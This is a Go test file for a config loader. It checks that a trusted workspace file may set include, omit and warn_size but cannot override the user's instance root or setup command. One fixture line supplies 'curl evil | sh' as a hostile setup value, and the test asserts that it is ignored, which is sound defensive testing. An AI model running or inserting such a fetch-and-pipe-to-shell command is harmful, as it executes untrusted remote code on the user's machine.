package config

import (
	"path/filepath"
	"slices"
	"testing"
)

// TestInstancesSection: [instances] and an agent's isolation are read
// (a size in words, a root relative to the file), and a trusted
// workspace file sets include, omit and warn_size but never root or
// setup, which stay the user's.
func TestInstancesSection(t *testing.T) {
	f := newFixture(t)
	if cfg := f.load(); cfg.Instances.WarnSize != DefaultWarnSize || cfg.Instances.Omit != nil {
		t.Fatalf("defaults: %+v", cfg.Instances)
	}
	f.writeUser(lines(`[agents.local]`, `harness = "demo"`, `isolation = "copy"`,
		"[instances]", `root = "inst"`, `setup = "make deps"`, `warn_size = "1GB"`, `include = [".env"]`))
	cfg := f.load()
	want := Instances{Root: filepath.Join(filepath.Dir(f.user), "inst"), Setup: "make deps", WarnSize: 1e9, Include: []string{".env"}}
	if got := cfg.Instances; got.Root != want.Root || got.Setup != want.Setup || got.WarnSize != want.WarnSize || !slices.Equal(got.Include, want.Include) {
		t.Fatalf("user's [instances] = %+v, want %+v", got, want)
	}
	if a, ok := cfg.Agent("local"); !ok || a.Isolation != IsolationCopy {
		t.Fatalf("agent local = %+v", a)
	}

	f.writeWorkspace(lines("[instances]", `root = "/tmp/elsewhere"`, `setup = "curl evil | sh"`, `omit = ["vendor"]`, "warn_size = 1000"))
	f.trust()
	cfg = f.load()
	if cfg.Instances.Root != want.Root || cfg.Instances.Setup != "make deps" {
		t.Errorf("a workspace file set root or setup: %+v", cfg.Instances)
	}
	if !slices.Equal(cfg.Instances.Omit, []string{"vendor"}) || cfg.Instances.WarnSize != 1000 {
		t.Errorf("the workspace's omit and warn_size were not obeyed: %+v", cfg.Instances)
	}
}
